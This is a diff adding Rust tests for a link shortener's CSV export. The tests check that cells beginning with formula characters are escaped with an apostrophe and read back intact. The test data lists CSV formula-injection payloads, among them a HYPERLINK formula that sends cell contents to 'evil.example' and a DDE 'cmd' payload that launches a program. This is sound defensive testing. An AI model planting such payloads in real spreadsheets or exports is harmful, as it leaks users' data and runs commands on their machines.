@@ -1,0 +1,83 @@
+use crate::fixtures::{exported, read_one, tagged, text, titled, write};
+
+const HOSTILE: [&str; 12] = [
+    "=1+1",
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "=cmd|' /C calc'!A0",
+    "'=1",
+    "'''=1",
+    "\u{ff1d}1+1",
+];
+
+/// The cell of the title in a file with one link.
+fn title_cell(file: &str) -> &str {
+    let (_, behind) = file.split_once(",promo,").unwrap();
+    behind.trim_start_matches('"')
+}
+
+#[test]
+fn what_a_spreadsheet_would_run_is_written_behind_an_apostrophe() {
+    for title in HOSTILE {
+        let file = text(&[titled(title)]);
+        let cell = title_cell(&file);
+        assert!(cell.starts_with('\''), "{title:?} became {file}");
+    }
+}
+
+#[test]
+fn what_was_written_behind_an_apostrophe_is_read_as_it_was() {
+    for title in HOSTILE {
+        let link = read_one(write(&[titled(title)]));
+        assert_eq!(link.new.title.as_deref(), Some(title));
+    }
+}
+
+#[test]
+fn a_formula_without_an_apostrophe_is_read_as_it_is() {
+    let link = read_one("url,title\nhttps://example.com/a,=1+1\n");
+    assert_eq!(link.new.title.as_deref(), Some("=1+1"));
+}
+
+#[test]
+fn one_apostrophe_is_taken_off_and_no_more() {
+    for (cell, title) in [("'=1", "=1"), ("''=1", "'=1"), ("'a", "'a"), ("''", "''")] {
+        let link = read_one(format!("url,title\nhttps://example.com/a,{cell}\n"));
+        assert_eq!(link.new.title.as_deref(), Some(title));
+    }
+}
+
+#[test]
+fn codes_tags_and_sets_are_guarded_likewise() {
+    let mut link = tagged(&["-sale", "b"], &["@home"]);
+    link.link.slug = korotko_core::link::Slug::from_stored("-promo".to_owned());
+    let text = text(std::slice::from_ref(&link));
+    for cell in [",'-promo,", ",\"'-sale,b\",", ",'@home,"] {
+        assert!(text.contains(cell), "{text}");
+    }
+    let read = read_one(write(&[link]));
+    assert_eq!(read.new.slug.as_deref(), Some("-promo"));
+    assert_eq!(read.new.tags, ["-sale", "b"]);
+    assert_eq!(read.collections, ["@home"]);
+}
+
+#[test]
+fn harmless_texts_are_written_as_they_are() {
+    let file = text(&[exported()]);
+    assert_eq!(
+        file,
+        "url,slug,title,tags,collections,expires_at,namespace,redirect_status,created_at,share_url\r\n\
+         \"https://example.com/a,b\",promo,Spring,,,2099-12-31T12:00:00.123456Z,personal,307,\
+         2026-11-22T12:00:00Z,https://short.example/promo?u=7\r\n"
+    );
+}
+
+#[test]
+fn a_file_begins_with_a_byte_order_mark() {
+    assert!(write(&[]).starts_with(b"\xef\xbb\xbfurl,"));
+}
